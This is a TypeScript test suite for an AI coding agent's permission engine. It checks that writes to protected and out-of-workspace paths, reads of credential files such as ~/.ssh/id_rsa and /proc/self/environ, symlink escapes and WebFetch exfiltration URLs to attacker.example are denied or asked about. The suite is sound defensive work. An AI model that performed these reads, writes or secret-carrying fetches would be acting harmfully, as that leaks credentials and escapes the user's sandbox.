/**
 * The security corpus for the tools other than Bash (issue 8): protected paths for every file-changing tool in
 * every mode (class 4), paths outside the workspace directly, through symlinks and dangling symlinks, WebFetch as
 * a way out (class 5), Grep/Glob/LS and `Read(...)` deny rules (class 5), and the calls that must stay allowed.
 * Each case is decided by `checkPermission` (the one decision function) with the tools' real `readOnly`/`kind`
 * (from `builtinToolSummaries`, checked against the real tools elsewhere). A bypass is an attempt that comes out
 * `allow`; the last block runs the real Grep, Glob and LS and checks that denied files stay out of their output.
 */
import * as fs from "node:fs"
import * as path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { readAccessBy } from "../../src/permissions/PermissionEngine.js"
import { loadRuleSet, type RuleLists } from "../../src/permissions/Settings.js"
import type { PermissionMode } from "../../src/services/Permissions.js"
import { builtinToolSummaries } from "../../src/tools/index.js"
import { makeGlobTool } from "../../src/tools/Glob.js"
import { makeGrepTool } from "../../src/tools/Grep.js"
import { makeLSTool } from "../../src/tools/LS.js"
import { NodeServices } from "@effect/platform-node"
import { makeWorkspace, Workspace } from "../../src/workspace/Workspace.js"
import { call, text } from "../tools/support.js"
import { decideWith, makeSandbox, type Sandbox, type ToolSpec } from "./helpers.js"

type Expected = "allow" | "ask" | "deny"

const builtin = (name: string): ToolSpec => {
  const found = builtinToolSummaries.find((t) => t.name === name)
  if (found === undefined) throw new Error(`no built-in tool ${name}`)
  return found
}

const T = {
  Read: builtin("Read"),
  Write: builtin("Write"),
  Edit: builtin("Edit"),
  MultiEdit: builtin("MultiEdit"),
  LS: builtin("LS"),
  Glob: builtin("Glob"),
  Grep: builtin("Grep"),
  WebFetch: builtin("WebFetch"),
  /** A custom file-changing tool with a notebook path (Sage has no NotebookEdit; a custom one is decided like this). */
  NotebookEdit: { name: "NotebookEdit", readOnly: false, kind: "edit" } satisfies ToolSpec
} as const

interface Case {
  readonly name: string
  readonly tool: ToolSpec
  readonly input: (s: Sandbox) => unknown
  readonly expect: Expected
  readonly mode: PermissionMode
  readonly rules: RuleLists
}

const MODES: ReadonlyArray<PermissionMode> = ["default", "acceptEdits", "plan", "bypassPermissions"]

/** Rules a user plausibly has: edits in src allowed, the whole file tools allowed, .env denied. */
const PERMISSIVE: RuleLists = {
  allow: ["Edit", "Write", "MultiEdit", "NotebookEdit", "Read", "Edit(src/**)", "Read(src/**)"],
  deny: ["Read(./.env)", "Read(./secrets/**)", "WebFetch(domain:evil.com)"]
}
const NONE: RuleLists = {}

const make = (
  name: string,
  tool: ToolSpec,
  input: (s: Sandbox) => unknown,
  expected: Expected,
  mode: PermissionMode,
  rules: RuleLists = NONE
): Case => ({
  name: `${name} [${mode}${rules === PERMISSIVE ? ", permissive rules" : ""}]`,
  tool,
  input,
  expect: expected,
  mode,
  rules
})

const edit = (tool: ToolSpec, target: string) => (s: Sandbox) =>
  tool.name === "MultiEdit"
    ? { file_path: target, edits: [{ old_string: "a", new_string: "b" }] }
    : tool.name === "Edit"
      ? { file_path: target, old_string: "a", new_string: "b" }
      : tool.name === "NotebookEdit"
        ? { notebook_path: target, new_source: "x" }
        : { file_path: target.replace("<root>", s.root), content: "x" }

// ---------------------------------------------------------------------------------------------------------------
// Class 4: protected paths, every file-changing tool, every mode.

const PROTECTED_PATHS = [
  ".git/config",
  ".git/hooks/pre-commit",
  ".git/info/attributes",
  "src/.git/config",
  "src/.git",
  "vendor/lib/.git/hooks/post-checkout",
  ".sage/settings.json",
  ".sage/settings.local.json",
  "src/.sage/settings.json",
  ".gitconfig",
  "src/.gitconfig",
  ".config/git/config",
  "src/.config/git/attributes",
  ".bashrc",
  "src/.bashrc",
  ".bash_profile",
  ".profile",
  ".zshrc",
  ".zshenv",
  "src/home/.bash_login",
  "./src/../.git/config",
  "src/link-to-git/config"
]

const protectedCases: Array<Case> = []
for (const target of PROTECTED_PATHS) {
  // The built-in file tools refuse (deny) in every mode, whatever broad allow rules say.
  for (const mode of MODES) protectedCases.push(make(`Write ${target}`, T.Write, edit(T.Write, target), "deny", mode))
  protectedCases.push(make(`Edit ${target}`, T.Edit, edit(T.Edit, target), "deny", "bypassPermissions", PERMISSIVE))
  protectedCases.push(
    make(`MultiEdit ${target}`, T.MultiEdit, edit(T.MultiEdit, target), "deny", "acceptEdits", PERMISSIVE)
  )
  // A custom edit tool cannot be made to refuse: it asks, in bypassPermissions and under a bare allow rule too.
  protectedCases.push(
    make(`NotebookEdit ${target}`, T.NotebookEdit, edit(T.NotebookEdit, target), "ask", "bypassPermissions")
  )
  protectedCases.push(
    make(`NotebookEdit ${target}`, T.NotebookEdit, edit(T.NotebookEdit, target), "ask", "acceptEdits", PERMISSIVE)
  )
}
// An absolute spelling of a protected path.
for (const mode of MODES) {
  protectedCases.push(
    make("Write <root>/.git/config (absolute)", T.Write, edit(T.Write, "<root>/.git/config"), "deny", mode)
  )
}

// ---------------------------------------------------------------------------------------------------------------
// Outside the workspace: directly, through `..`, `~`, a symlinked directory, a dangling symlink.

const OUTSIDE_WRITES = [
  "/etc/cron.d/job",
  "/tmp/sage-outside.txt",
  "../outside/escape.txt",
  "~/.bashrc",
  "~/.ssh/authorized_keys",
  "src/link/escape.txt",
  "src/dangling",
  "src/dangling-dir/new.txt",
  "src/../../outside/x"
]
const outsideCases: Array<Case> = []
for (const target of OUTSIDE_WRITES) {
  for (const mode of MODES) outsideCases.push(make(`Write ${target}`, T.Write, edit(T.Write, target), "deny", mode))
  outsideCases.push(make(`Edit ${target}`, T.Edit, edit(T.Edit, target), "deny", "bypassPermissions", PERMISSIVE))
  outsideCases.push(
    make(`NotebookEdit ${target}`, T.NotebookEdit, edit(T.NotebookEdit, target), "ask", "bypassPermissions")
  )
}
const OUTSIDE_READS = [
  "/etc/passwd",
  "../outside/secret.txt",
  "~/.ssh/id_rsa",
  "src/link/secret.txt",
  "/proc/self/environ"
]
for (const target of OUTSIDE_READS) {
  outsideCases.push(make(`Read ${target}`, T.Read, () => ({ file_path: target }), "deny", "default", PERMISSIVE))
  outsideCases.push(make(`Read ${target}`, T.Read, () => ({ file_path: target }), "deny", "bypassPermissions"))
  outsideCases.push(
    make(
      `LS ${target}`,
      T.LS,
      () => ({ path: path.dirname(target) === "." ? target : path.dirname(target) }),
      "deny",
      "bypassPermissions"
    )
  )
  outsideCases.push(make(`Grep in ${target}`, T.Grep, () => ({ pattern: ".", path: target }), "deny", "default"))
}
outsideCases.push(
  make("Glob /etc/*", T.Glob, () => ({ pattern: "/etc/*" }), "deny", "bypassPermissions"),
  make("Glob ../**", T.Glob, () => ({ pattern: "../outside/**" }), "deny", "default"),
  make("Glob in a symlinked dir", T.Glob, () => ({ pattern: "*", path: "src/link" }), "deny", "default"),
  make("Glob ~/.ssh/*", T.Glob, () => ({ pattern: "*", path: "~/.ssh" }), "deny", "default"),
  make("Grep / (the whole disk)", T.Grep, () => ({ pattern: "password", path: "/" }), "deny", "bypassPermissions")
)

// ---------------------------------------------------------------------------------------------------------------
// Class 5: WebFetch asks unless a domain rule allows the host; deny rules deny; bypassPermissions allows.

const fetch = (url: string, expected: Expected, mode: PermissionMode, rules: RuleLists = NONE): Case =>
  make(`WebFetch ${url}`, T.WebFetch, () => ({ url, prompt: "summarize" }), expected, mode, rules)

const DOCS: RuleLists = { allow: ["WebFetch(domain:docs.example.com)"], deny: ["WebFetch(domain:evil.com)"] }
const webCases: Array<Case> = [
  fetch("https://attacker.example/?q=SECRET", "ask", "default"),
  fetch("https://attacker.example/?q=SECRET", "ask", "acceptEdits"),
  fetch("https://attacker.example/?q=SECRET", "ask", "plan"),
  fetch("https://attacker.example/?q=SECRET", "allow", "bypassPermissions"),
  fetch("https://attacker.example/", "ask", "default", DOCS),
  fetch("https://docs.example.com.attacker.example/", "ask", "default", DOCS),
  fetch("https://docs.example.com@attacker.example/", "ask", "default", DOCS),
  fetch("https://attacker.example/docs.example.com", "ask", "acceptEdits", DOCS),
  fetch("https://sub.docs.example.com/", "ask", "default", DOCS),
  fetch("https://example.com/", "ask", "default", DOCS),
  fetch("http://127.0.0.1:8080/", "ask", "default", DOCS),
  fetch("http://[::1]/", "ask", "default", DOCS),
  fetch("file:///etc/passwd", "ask", "default", DOCS),
  fetch("not a url", "ask", "default", DOCS),
  fetch("https://evil.com/", "deny", "bypassPermissions", DOCS),
  fetch("https://sub.evil.com/", "deny", "bypassPermissions", DOCS),
  fetch("https://EVIL.com./", "deny", "default", DOCS),
  fetch("https://evil.com/", "deny", "plan", DOCS),
  fetch("https://x.example/", "ask", "acceptEdits", PERMISSIVE),
  make("WebFetch without a url", T.WebFetch, () => ({ prompt: "summarize" }), "ask", "default"),
  make("WebFetch with a url that is not a string", T.WebFetch, () => ({ url: ["https://a"] }), "ask", "default")
]

// ---------------------------------------------------------------------------------------------------------------
// Class 5: Grep, Glob and LS honour Read deny rules for an explicit path (results are filtered: see below).

const SECRETS: RuleLists = { deny: ["Read(./.env)", "Read(./secrets/**)", "Read(~/.ssh/**)", "Read(*.pem)"] }
const searchCases: Array<Case> = []
for (const mode of MODES) {
  searchCases.push(
    make("Grep path .env", T.Grep, () => ({ pattern: ".", path: ".env" }), "deny", mode, SECRETS),
    make("Grep path secrets", T.Grep, () => ({ pattern: ".", path: "secrets" }), "deny", mode, SECRETS),
    make("Glob in secrets", T.Glob, () => ({ pattern: "**/*", path: "secrets" }), "deny", mode, SECRETS),
    make("LS secrets", T.LS, () => ({ path: "secrets" }), "deny", mode, SECRETS)
  )
}
searchCases.push(
  make(
    "Grep path ./secrets/../.env",
    T.Grep,
    () => ({ pattern: ".", path: "./secrets/../.env" }),
    "deny",
    "default",
    SECRETS
  ),
  make("Grep path key.pem", T.Grep, () => ({ pattern: ".", path: "src/key.pem" }), "deny", "default", SECRETS),
  make("Glob secrets/** pattern", T.Glob, () => ({ pattern: "secrets/**" }), "deny", "default", SECRETS),
  make("Glob secrets/*.txt pattern", T.Glob, () => ({ pattern: "secrets/*.txt" }), "deny", "default", SECRETS),
  make("LS secrets/", T.LS, () => ({ path: "secrets/" }), "deny", "default", SECRETS),
  make(
    "Grep through a symlink to .env",
    T.Grep,
    () => ({ pattern: ".", path: "innocent.txt" }),
    "deny",
    "default",
    SECRETS
  ),
  make(
    "Read through a symlink to .env",
    T.Read,
    () => ({ file_path: "innocent.txt" }),
    "deny",
    "bypassPermissions",
    SECRETS
  ),
  make("Grep everything under a bare Read deny", T.Grep, () => ({ pattern: "." }), "deny", "default", {
    deny: ["Read"]
  }),
  make("Glob everything under a bare Read deny", T.Glob, () => ({ pattern: "**" }), "deny", "bypassPermissions", {
    deny: ["Read"]
  }),
  make("LS under a Read ask rule for the dir", T.LS, () => ({ path: "secrets" }), "ask", "bypassPermissions", {
    ask: ["Read(./secrets/**)"]
  })
)

// ---------------------------------------------------------------------------------------------------------------
// Calls that must stay allowed (a false denial is a defect too).

const controls: ReadonlyArray<Case> = [
  make("Read src/a.txt", T.Read, () => ({ file_path: "src/a.txt" }), "allow", "default"),
  make("Read .git/config (reading is fine)", T.Read, () => ({ file_path: ".git/config" }), "allow", "default"),
  make("Read sub/.env is not ./.env", T.Read, () => ({ file_path: "sub/.env" }), "allow", "default", SECRETS),
  make(
    "Grep the workspace (denied files are filtered)",
    T.Grep,
    () => ({ pattern: "TODO" }),
    "allow",
    "default",
    SECRETS
  ),
  make(
    "Grep with a glob for .env (filtered)",
    T.Grep,
    () => ({ pattern: ".", glob: ".env", output_mode: "content" }),
    "allow",
    "default",
    SECRETS
  ),
  make("Glob **/*.ts", T.Glob, () => ({ pattern: "**/*.ts" }), "allow", "default", SECRETS),
  make("Glob src/*.ts", T.Glob, () => ({ pattern: "src/*.ts" }), "allow", "plan", SECRETS),
  make("LS .", T.LS, () => ({ path: "." }), "allow", "default", SECRETS),
  make("LS src", T.LS, () => ({ path: "src" }), "allow", "plan"),
  make("Write src/new.ts", T.Write, () => ({ file_path: "src/new.ts", content: "x" }), "allow", "acceptEdits"),
  make("Write src/new.ts", T.Write, () => ({ file_path: "src/new.ts", content: "x" }), "allow", "bypassPermissions"),
  make("Write src/new.ts", T.Write, () => ({ file_path: "src/new.ts", content: "x" }), "ask", "default"),
  make("Edit src/a.ts under Edit(src/**)", T.Edit, edit(T.Edit, "src/a.ts"), "allow", "default", PERMISSIVE),
  make(
    "Write src/gitignore.txt (not protected)",
    T.Write,
    () => ({ file_path: "src/.gitignore", content: "x" }),
    "allow",
    "acceptEdits"
  ),
  make(
    "Write src/git/config (not .git)",
    T.Write,
    () => ({ file_path: "src/git/config", content: "x" }),
    "allow",
    "acceptEdits"
  ),
  make(
    "Write .github/workflows/ci.yml",
    T.Write,
    () => ({ file_path: ".github/workflows/ci.yml", content: "x" }),
    "allow",
    "acceptEdits"
  ),
  make("Write src/profile.ts", T.Write, () => ({ file_path: "src/profile.ts", content: "x" }), "allow", "acceptEdits"),
  make(
    "Write .git/hooks/x under an explicit rule",
    T.Write,
    () => ({ file_path: ".git/hooks/x", content: "x" }),
    "allow",
    "default",
    { allow: ["Write(.git/hooks/**)"] }
  ),
  make(
    "WebFetch an allowed host",
    T.WebFetch,
    () => ({ url: "https://docs.example.com/x", prompt: "p" }),
    "allow",
    "default",
    DOCS
  ),
  make(
    "WebFetch an allowed host in plan mode",
    T.WebFetch,
    () => ({ url: "https://docs.example.com/x", prompt: "p" }),
    "allow",
    "plan",
    DOCS
  ),
  make(
    "WebFetch under a bare WebFetch rule",
    T.WebFetch,
    () => ({ url: "https://any.example/", prompt: "p" }),
    "allow",
    "default",
    { allow: ["WebFetch"] }
  )
]

const ATTEMPTS: ReadonlyArray<Case> = [...protectedCases, ...outsideCases, ...webCases, ...searchCases]

let sandbox: Sandbox

/** The rule set of the sandbox project with `rules` given in code (the custom NotebookEdit tool is known). */
const rulesFor = (s: Sandbox, rules: RuleLists) =>
  loadRuleSet({ cwd: s.root, homeDir: s.home, additionalRules: rules, toolNames: ["NotebookEdit"] })

beforeAll(() => {
  sandbox = makeSandbox()
  const outside = path.join(sandbox.base, "outside")
  fs.mkdirSync(outside, { recursive: true })
  fs.writeFileSync(path.join(outside, "secret.txt"), "OUTSIDE\n")
  for (const dir of ["src", ".git/hooks", "secrets", ".sage", "sub"])
    fs.mkdirSync(path.join(sandbox.root, dir), { recursive: true })
  fs.writeFileSync(path.join(sandbox.root, ".git", "config"), "[core]\n")
  fs.writeFileSync(path.join(sandbox.root, ".env"), "SECRET=envsecret\n")
  fs.writeFileSync(path.join(sandbox.root, "secrets", "key.txt"), "KEYDATA\n")
  fs.writeFileSync(path.join(sandbox.root, "src", "a.txt"), "TODO a\n")
  fs.writeFileSync(path.join(sandbox.root, "sub", ".env"), "OTHER=1\n")
  fs.symlinkSync(outside, path.join(sandbox.root, "src", "link"))
  fs.symlinkSync(path.join(outside, "new.txt"), path.join(sandbox.root, "src", "dangling"))
  fs.symlinkSync(path.join(outside, "newdir"), path.join(sandbox.root, "src", "dangling-dir"))
  fs.symlinkSync(path.join(sandbox.root, ".git"), path.join(sandbox.root, "src", "link-to-git"))
  fs.symlinkSync(path.join(sandbox.root, ".env"), path.join(sandbox.root, "innocent.txt"))
})

afterAll(() => sandbox.cleanup())

const run = (c: Case) =>
  Effect.gen(function* () {
    const rules = yield* rulesFor(sandbox, c.rules)
    const decision = yield* decideWith(rules, c.tool, c.input(sandbox), c.mode)
    expect({ case: c.name, decision: decision.type, source: decision.source }).toMatchObject({
      case: c.name,
      decision: c.expect
    })
  })

describe("tool corpus: attempted escapes", () => {
  it("has at least 250 attempts, none of which may be allowed except bypassPermissions fetches", () => {
    expect(ATTEMPTS.length).toBeGreaterThanOrEqual(250)
    expect(ATTEMPTS.filter((c) => c.expect === "allow" && c.mode !== "bypassPermissions")).toEqual([])
  })
  for (const c of ATTEMPTS) it.effect(c.name, () => run(c))
})

describe("tool corpus: controls that must stay allowed", () => {
  for (const c of controls) it.effect(c.name, () => run(c))
})

describe("tool corpus: Grep, Glob and LS leave out what Read rules deny", () => {
  const tools = Effect.gen(function* () {
    const rules = yield* rulesFor(sandbox, SECRETS)
    const workspace = yield* makeWorkspace([sandbox.root], undefined, readAccessBy(rules)).pipe(
      Effect.provide(NodeServices.layer)
    )
    return yield* Effect.all({
      grep: makeGrepTool({ rgPath: null }),
      rg: makeGrepTool(),
      glob: makeGlobTool(),
      ls: makeLSTool()
    }).pipe(Effect.provideService(Workspace, workspace))
  })

  it.effect("Grep (built-in search and ripgrep) does not print a denied file", () =>
    Effect.gen(function* () {
      const { grep, rg } = yield* tools
      for (const tool of [grep, rg]) {
        const content = text(yield* call(tool, { pattern: ".", glob: ".env", output_mode: "content" }, sandbox.root))
        expect(content).not.toContain("envsecret")
        const all = text(yield* call(tool, { pattern: ".", output_mode: "content" }, sandbox.root))
        expect(all).not.toContain("envsecret")
        expect(all).not.toContain("KEYDATA")
        expect(all).toContain("TODO a")
        // sub/.env is not ./.env: it stays searchable.
        expect(all).toContain("OTHER=1")
        const files = text(yield* call(tool, { pattern: "." }, sandbox.root))
        expect(files).not.toMatch(/^\.env$/m)
        expect(files).not.toContain("key.txt")
        const direct = yield* call(tool, { pattern: ".", path: ".env" }, sandbox.root)
        expect(direct.status).toBe("error")
        expect(text(direct)).toContain("may not be read")
      }
    }).pipe(Effect.provide(NodeServices.layer))
  )

  it.effect("Glob and LS do not list a denied file", () =>
    Effect.gen(function* () {
      const { glob, ls } = yield* tools
      const globbed = text(yield* call(glob, { pattern: "**/*" }, sandbox.root))
      expect(globbed).not.toContain(path.join(sandbox.root, ".env"))
      expect(globbed).not.toContain("key.txt")
      expect(globbed).toContain(path.join(sandbox.root, "src", "a.txt"))
      const listed = text(yield* call(ls, { path: "." }, sandbox.root))
      expect(listed).not.toMatch(/^ {2}\.env$/m)
      expect(listed).toMatch(/^ {2}src\/$/m)
      const secrets = yield* call(ls, { path: "secrets" }, sandbox.root)
      expect(secrets.status).toBe("error")
      expect(text(secrets)).toContain("may not be read")
    }).pipe(Effect.provide(NodeServices.layer))
  )
})
